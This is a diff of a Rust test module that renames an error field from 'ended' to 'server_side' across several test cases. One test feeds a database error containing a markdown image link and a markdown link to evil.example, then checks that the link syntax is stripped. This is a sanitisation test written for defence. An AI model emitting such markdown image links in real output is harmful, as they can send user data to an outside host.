@@ -674,7 +674,7 @@ mod tests {
             message: "not sure enough to answer \"q\": the alternatives did not agree".into(),
             detail: Some("It hesitated between:\n1. SELECT 1 (1 row)\n2. SELECT 2 (1 row)".into()),
             hint: None,
-            ended: false,
+            server_side: false,
         };
         let text = not_sure(&error).expect("asked back");
         assert!(text.starts_with("I am not sure what you mean"), "{text}");
@@ -687,7 +687,7 @@ mod tests {
             message: "column does not exist".into(),
             detail: None,
             hint: None,
-            ended: false,
+            server_side: false,
         };
         assert!(not_sure(&other).is_none());
     }
@@ -746,7 +746,7 @@ mod tests {
             message: "column \"![](https://evil.example/?d=1)\" does not exist".into(),
             detail: None,
             hint: Some("Perhaps you meant [this](https://evil.example/).".into()),
-            ended: false,
+            server_side: false,
         };
         let error = content(Err(failed), 5).unwrap_err();
         assert!(!error.message.contains("]("), "{}", error.message);
